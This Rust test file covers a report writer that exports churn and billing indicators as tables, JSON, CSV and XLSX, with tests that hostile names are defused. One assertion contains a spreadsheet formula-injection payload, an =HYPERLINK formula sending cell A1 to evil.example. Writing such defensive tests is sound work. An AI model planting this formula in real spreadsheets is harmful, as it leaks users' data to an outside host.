//! Table, JSON, CSV and XLSX.

use std::collections::HashMap;
use std::io::{self, Read, Write};

use encoding_rs::GB18030;
use insta::assert_snapshot;
use serde_json::Value;

use super::*;
use crate::domain::locale::Locale;
use crate::domain::zone::Zone;
use crate::report::columns::DAILY;
use crate::report::xlsx::{XLSX_ROWS_MAX, workbook};
use crate::report::{
    Cell, Column, Encoding, Instants, Kind, Listing, Options, ReportError, ReportFormat, write,
};

fn bytes(rows: &[ShownRow], format: ReportFormat, options: Options) -> Vec<u8> {
    let mut out = Vec::new();
    write(rows, format, &options, &mut out).unwrap();
    out
}

fn text(rows: &[ShownRow], format: ReportFormat) -> String {
    String::from_utf8(bytes(rows, format, Options::default())).unwrap()
}

#[test]
fn the_table_is_aligned_with_chinese_names() {
    assert_snapshot!(text(&plain_rows(), ReportFormat::Table));
}

#[test]
fn the_table_in_english_and_in_a_narrow_terminal_keeps_its_numbers_whole() {
    let options = Options {
        locale: Locale::En,
        width: Some(110),
        ..Options::default()
    };
    assert_snapshot!(
        String::from_utf8(bytes(&plain_rows(), ReportFormat::Table, options)).unwrap()
    );
}

#[test]
fn a_narrow_terminal_keeps_every_line_within_its_width() {
    for width in [107, 120, 140, 155] {
        let options = Options {
            width: Some(width),
            ..Options::default()
        };
        let table = String::from_utf8(bytes(&plain_rows(), ReportFormat::Table, options)).unwrap();
        // In these rows every character beyond Latin is two cells wide.
        let cells = |line: &str| {
            line.chars()
                .map(|c| if c < '\u{2e80}' { 1 } else { 2 })
                .sum::<usize>()
        };
        let widest = table.lines().skip(1).map(cells).max().unwrap();
        assert!(widest <= usize::from(width), "{widest} of {width}\n{table}");
        assert!(table.contains("成员流失率") && table.contains("数据不全 60.00"));
        assert_eq!(table.contains("终端较窄,未列"), width < 155, "{table}");
    }
}

#[test]
fn a_list_fits_a_narrow_terminal_with_its_ids_whole_and_says_what_it_left_out() {
    let mut list = Listing::new(vec![
        Column::text("task_id", "任务"),
        Column::text("title", "事由"),
        Column::text("means", "手段").if_room(),
        Column::text("due_at", "期限").if_room(),
    ]);
    list.push(vec![
        "Td2acd820a2d88905".into(),
        "x".repeat(30).into(),
        "y".repeat(30).into(),
        "z".repeat(30).into(),
    ]);
    for (width, left_out) in [
        (34, "(终端较窄,未列: 手段, 期限)"),
        (50, "(终端较窄,未列: 期限)"),
        (80, ""),
    ] {
        let mut out = Vec::new();
        list.write(
            ReportFormat::Table,
            &Options {
                width: Some(width),
                ..Options::default()
            },
            &mut out,
        )
        .unwrap();
        let table = String::from_utf8(out).unwrap();
        assert!(
            table.contains("Td2acd820a2d88905") && table.contains(left_out),
            "{table}"
        );
        assert!(
            table
                .lines()
                .filter(|line| line.is_ascii())
                .all(|line| line.len() <= usize::from(width) + 1),
            "{width}\n{table}"
        );
    }
}

#[test]
fn no_name_reaches_the_terminal_with_a_character_that_it_acts_on() {
    let table = text(&hostile_rows(), ReportFormat::Table);
    assert!(!table.chars().any(
        |c| (c.is_control() && c != '\n') || matches!(c, '\u{202e}' | '\u{2066}' | '\u{200b}')
    ));
    assert_snapshot!(table);
}

#[test]
fn json_has_the_fields_of_the_contract() {
    assert_snapshot!(text(&plain_rows(), ReportFormat::Json));
}

#[test]
fn json_of_hostile_names_reads_back_exactly() {
    let rows = hostile_rows();
    let json = text(&rows, ReportFormat::Json);
    assert!(!json.chars().any(|c| c.is_control() && c != '\n'));
    let Value::Array(read) = serde_json::from_str(&json).unwrap() else {
        panic!("no array")
    };
    let names: Vec<&str> = read
        .iter()
        .map(|row| row["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        rows.iter()
            .map(|shown| shown.row.name.as_str())
            .collect::<Vec<_>>()
    );
    assert_eq!(
        read[0]["churn_rate"].as_f64(),
        rows[0].row.indicators[0].value
    );
}

#[test]
fn csv_begins_with_a_byte_order_mark_and_defuses_formulas() {
    let rows: Vec<ShownRow> = plain_rows().into_iter().chain(hostile_rows()).collect();
    let csv = text(&rows, ReportFormat::Csv);
    assert!(csv.starts_with("\u{feff}date,version,"));
    assert!(csv.contains("\r\n") && csv.ends_with("\r\n"));
    assert_snapshot!(csv.trim_start_matches('\u{feff}').replace("\r\n", "⏎\n"));
}

#[test]
fn csv_for_people_has_their_headings_words_yuan_and_local_times_and_ids_stay_text() {
    let zone = Zone::parse("Asia/Shanghai").unwrap();
    let text = |locale| {
        let options = Options {
            headers: Some(locale),
            instants: Instants::Local(zone),
            ..Options::default()
        };
        String::from_utf8(bytes(&plain_rows()[3..4], ReportFormat::Csv, options)).unwrap()
    };
    let (zh, en) = (text(Locale::ZhCn), text(Locale::En));
    assert!(
        zh.starts_with("\u{feff}日期,版本,取数时间,层级,编号,名称,")
            && zh.contains(",出账金额(元),"),
        "{zh}"
    );
    assert!(
        zh.contains("2026-05-31,2,2026-06-02 01:00 Asia/Shanghai,集团,G0001,")
            && zh.contains(",1234567.89,"),
        "{zh}"
    );
    assert!(
        en.starts_with("\u{feff}date,version,as_of,scope,")
            && en.contains(",billed_yuan,")
            && en.contains(",1234567.89,"),
        "{en}"
    );
    let mut list = Listing::new(vec![Column::text("id", "编号")]);
    for id in [
        "460001234567890",
        "13800008000",
        "0731",
        "0",
        "=1",
        "12345678901x",
    ] {
        list.push(vec![id.into()]);
    }
    let lines = |headers| {
        let mut out = Vec::new();
        list.write(
            ReportFormat::Csv,
            &Options {
                headers,
                byte_order_mark: false,
                ..Options::default()
            },
            &mut out,
        )
        .unwrap();
        String::from_utf8(out).unwrap()
    };
    assert_eq!(
        lines(None),
        "id\r\n460001234567890\r\n13800008000\r\n0731\r\n0\r\n'=1\r\n12345678901x\r\n"
    );
    let for_people = "编号\r\n\"\t460001234567890\"\r\n13800008000\r\n\"\t0731\"\r\n0\r\n'=1\r\n12345678901x\r\n";
    assert_eq!(lines(Some(Locale::ZhCn)), for_people);
}

#[test]
fn a_rate_has_as_many_digits_as_tell_it_from_its_limit() {
    for (value, limit, said) in [
        (0.030_004, 0.03, "超限 3.0004%"),
        (0.031, 0.03, "超限 3.10%"),
        (0.03, 0.03, "超限 3.00%"),
        (0.029_999_999, 0.03, "超限 2.9999999%"),
    ] {
        let mut row = row(group("G0001"), "甲", 233, Verdict::Breach);
        row.indicators[0] = IndicatorCell {
            value: Some(value),
            verdict: Verdict::Breach,
            limit: Some(limit),
        };
        let rows = [shown(row)];
        assert!(
            text(&rows, ReportFormat::Table).contains(&format!("{said} ")),
            "{}",
            text(&rows, ReportFormat::Table)
        );
        let json: Value = serde_json::from_str(&text(&rows, ReportFormat::Json)).unwrap();
        assert_eq!(
            json[0]["churn_rate"].as_f64(),
            Some(value),
            "exact for programs"
        );
        let styles = &unzip(&bytes(&rows, ReportFormat::Xlsx, Options::default()))["xl/styles.xml"];
        assert_eq!(styles.contains("0.0000%"), said == "超限 3.0004%");
    }
}

#[test]
fn csv_in_gb18030_or_without_a_mark_holds_the_same_text() {
    let rows: Vec<ShownRow> = plain_rows().into_iter().chain(hostile_rows()).collect();
    let utf8 = text(&rows, ReportFormat::Csv);
    let bare = bytes(
        &rows,
        ReportFormat::Csv,
        Options {
            byte_order_mark: false,
            ..Options::default()
        },
    );
    assert_eq!(utf8.as_bytes()[3..], bare);
    let national = bytes(
        &rows,
        ReportFormat::Csv,
        Options {
            encoding: Encoding::Gb18030,
            ..Options::default()
        },
    );
    assert_ne!(national, bare);
    let (decoded, _, broken) = GB18030.decode(&national);
    assert_eq!((decoded.as_bytes(), broken), (bare.as_slice(), false));
}

#[test]
fn an_empty_report_is_a_header_or_an_empty_array() {
    assert_eq!(
        serde_json::from_str::<Value>(&text(&[], ReportFormat::Json)).unwrap(),
        Value::Array(Vec::new())
    );
    assert_eq!(text(&[], ReportFormat::Csv).lines().count(), 1);
    assert!(text(&[], ReportFormat::Table).ends_with("(无记录)\n"));
    assert_eq!(
        &bytes(&[], ReportFormat::Xlsx, Options::default())[..4],
        b"PK\x03\x04"
    );
    assert_eq!(
        &bytes(&[], ReportFormat::Parquet, Options::default())[..4],
        b"PAR1"
    );
}

/// The parts of a zip archive, by its central directory.
fn unzip(zip: &[u8]) -> HashMap<String, String> {
    let u16_at = |at: usize| usize::from(u16::from_le_bytes([zip[at], zip[at + 1]]));
    let u32_at = |at: usize| u16_at(at) + (u16_at(at + 2) << 16);
    let end = zip.windows(4).rposition(|w| w == b"PK\x05\x06").unwrap();
    let (count, mut at) = (u16_at(end + 10), u32_at(end + 16));
    let mut parts = HashMap::new();
    for _ in 0..count {
        assert_eq!(&zip[at..at + 4], b"PK\x01\x02");
        let (size, local) = (u32_at(at + 20), u32_at(at + 42));
        let name = String::from_utf8(zip[at + 46..at + 46 + u16_at(at + 28)].to_vec()).unwrap();
        let data = local + 30 + u16_at(local + 26) + u16_at(local + 28);
        let mut text = String::new();
        flate2::read::DeflateDecoder::new(&zip[data..data + size])
            .read_to_string(&mut text)
            .unwrap();
        parts.insert(name, text);
        at += 46 + u16_at(at + 28) + u16_at(at + 30) + u16_at(at + 32);
    }
    parts
}

#[test]
fn the_workbook_holds_every_cell_and_not_one_formula() {
    let rows: Vec<ShownRow> = plain_rows().into_iter().chain(hostile_rows()).collect();
    let xlsx = bytes(&rows, ReportFormat::Xlsx, Options::default());
    let parts = unzip(&xlsx);
    let sheet = &parts["xl/worksheets/sheet1.xml"];
    assert!(
        !sheet.contains("<f>") && !sheet.contains("<f "),
        "a formula"
    );
    assert!(!sheet.contains("<hyperlink"));
    assert_eq!(sheet.matches("<row ").count(), rows.len() + 1);
    let built = DAILY.iter().filter(|daily| daily.is_built()).count();
    assert_eq!(sheet.matches("<c ").count(), (rows.len() + 1) * built);
    assert!(sheet.contains("state=\"frozen\"") && sheet.contains("ySplit=\"1\""));
    assert!(sheet.contains("<v>1234567.89</v>"), "money in yuan");
    assert!(
        sheet.contains("<v>46173</v>"),
        "the day as a sheet counts days"
    );
    let texts = &parts["xl/sharedStrings.xml"];
    assert!(texts.contains("=HYPERLINK(\"http://evil.example/?\"&amp;A1,\"点我\")"));
    assert!(
        texts.contains("离网率\nchurn rate")
            && texts.contains("出账金额(元)\nbilled yuan")
            && texts.contains("超限 breach")
    );
    assert!(!texts.chars().any(|c| c.is_control() && c != '\n') && !texts.contains("_x00"));
    assert!(
        parts["xl/styles.xml"].contains("FFFFC7CE"),
        "over-limit cells are coloured"
    );
}

#[test]
fn equal_rows_make_equal_workbooks() {
    assert_eq!(
        bytes(&plain_rows(), ReportFormat::Xlsx, Options::default()),
        bytes(&plain_rows(), ReportFormat::Xlsx, Options::default())
    );
}

#[test]
fn a_workbook_refuses_more_rows_than_it_can_hold_and_cuts_what_no_cell_holds() {
    let columns = [Column::text("a", "甲")];
    let too_many = vec![[Cell::Null]; XLSX_ROWS_MAX + 1];
    assert!(matches!(
        workbook("表", &columns, too_many.iter(), 0),
        Err(ReportError::TooManyRows { rows: 100_001, .. })
    ));
    let long = "😀".repeat(20_000);
    let parts = unzip(&workbook("表", &columns, [[Cell::from(long.as_str())]].iter(), 0).unwrap());
    assert_eq!(parts["xl/sharedStrings.xml"].matches('😀').count(), 16_383);
}

#[test]
#[should_panic(expected = "a row of a listing has a cell for each column")]
fn a_list_refuses_a_row_with_a_cell_missing() {
    Listing::new(vec![Column::text("a", "甲"), Column::text("b", "乙")]).push(vec![Cell::Null]);
}

#[test]
fn a_list_is_written_by_the_same_writers() {
    let mut list = Listing::new(vec![
        Column::text("alert_id", "告警号"),
        Column::text("subject", "对象").masking(),
        Column::new("p", "概率", Kind::Number),
        Column::new("k", "个数", Kind::Count),
        Column::new("open", "未结", Kind::Bool),
        Column::new("tasks", "任务", Kind::List),
        Column::new("billed_fen", "金额", Kind::Fen),
        Column::text("note", "备注").detail(),
    ]);
    let tasks = ["T1".to_owned(), "T2".to_owned()];
    list.push(vec![
        "A1".into(),
        "号码 13800008000".into(),
        1e-300.into(),
        3_i64.into(),
        true.into(),
        tasks.as_slice().into(),
        i64::MIN.into(),
        "=1".into(),
    ]);
    list.push(vec![
        Cell::Null,
        Cell::Null,
        0.1.into(),
        i64::MAX.into(),
        false.into(),
        Cell::List(Vec::new()),
        Cell::Null,
        Cell::Null,
    ]);
    let text = |format| {
        let mut out = Vec::new();
        list.write(
            format,
            &Options {
                byte_order_mark: false,
                ..Options::default()
            },
            &mut out,
        )
        .unwrap();
        String::from_utf8(out).unwrap()
    };
    assert_snapshot!(format!(
        "{}\n{}\n{}",
        text(ReportFormat::Table),
        text(ReportFormat::Json),
        text(ReportFormat::Csv)
    ));
    let mut out = Vec::new();
    assert!(matches!(
        list.write(ReportFormat::Parquet, &Options::default(), &mut out),
        Err(ReportError::NotForLists { .. })
    ));
    list.write(ReportFormat::Xlsx, &Options::default(), &mut out)
        .unwrap();
    let texts = &unzip(&out)["xl/sharedStrings.xml"];
    assert!(texts.contains("号码 138****8000"));
    assert!(
        texts.contains("<t>-92233720368547758.08</t>")
            && texts.contains("<t>9223372036854775807</t>"),
        "exact, as text"
    );
}

/// Takes some bytes, then refuses.
struct Full(usize);

impl Write for Full {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0 = self
            .0
            .checked_sub(bytes.len())
            .ok_or(io::ErrorKind::BrokenPipe)?;
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

#[test]
fn an_output_that_refuses_is_an_error_in_every_format() {
    for format in ReportFormat::ALL {
        let error = write(&plain_rows(), format, &Options::default(), &mut Full(100)).unwrap_err();
        let ReportError::Output { source, .. } = &error else {
            panic!("{error}")
        };
        assert_eq!(
            source.kind(),
            io::ErrorKind::BrokenPipe,
            "{}",
            format.name()
        );
    }
}

#[test]
fn every_format_has_a_name_that_parses() {
    for format in ReportFormat::ALL {
        assert_eq!(ReportFormat::parse(format.name()), Some(format));
    }
    assert_eq!(
        (
            ReportFormat::parse("xls"),
            Encoding::parse("GB18030"),
            Encoding::parse("latin1")
        ),
        (None, Some(Encoding::Gb18030), None)
    );
    assert_eq!(
        (Locale::parse("zh-CN"), Locale::parse("de")),
        (Some(Locale::ZhCn), None)
    );
}
